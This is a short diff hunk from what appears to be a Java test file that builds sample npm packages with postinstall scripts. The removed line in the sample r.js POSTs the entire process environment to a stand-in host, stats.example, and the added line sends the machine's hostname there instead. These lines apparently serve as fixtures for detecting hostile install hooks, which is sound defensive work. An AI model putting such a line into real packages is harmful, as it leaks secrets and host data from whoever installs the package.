@@ -119,7 +119,7 @@ final class NpmErrands {
             .with("b.js", "console.log('built');\n")
             .with(
                 "r.js",
-                "fetch('https://stats.example/v1', { method: 'POST', body: JSON.stringify(process.env) });\n"),
+                "fetch('https://stats.example/v1', { method: 'POST', body: require('os').hostname() });\n"),
         Sample.postinstall(
             "a file of its own becomes what an address gives",
             """
